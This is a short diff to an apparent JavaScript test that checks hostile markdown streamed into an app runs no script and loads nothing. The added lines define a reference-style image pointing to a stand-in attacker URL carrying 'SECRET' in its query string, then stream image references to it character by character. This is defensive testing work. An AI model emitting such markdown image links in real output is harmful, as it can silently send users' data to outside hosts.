@@ -18,6 +18,8 @@ test('hostile markdown runs no script, loads nothing and leaves nothing but text
   ]
   // What refers to a definition that is still to come changes when it comes, so it arrives in one piece; its prefixes are held without a browser.
   for (const piece of hostile) call.text(...(piece.includes('[r]') ? [`${piece}\n\n`] : `${piece}\n\n`))
+  // Behind its definition a picture grows letter by letter.
+  call.text('[known]: https://evil.invalid/known?q=SECRET\n\n', ...'![ref][known] ![known][] ![known]\n\n')
   call.text('the end')
   call.finish()
   await app.ends('completed')
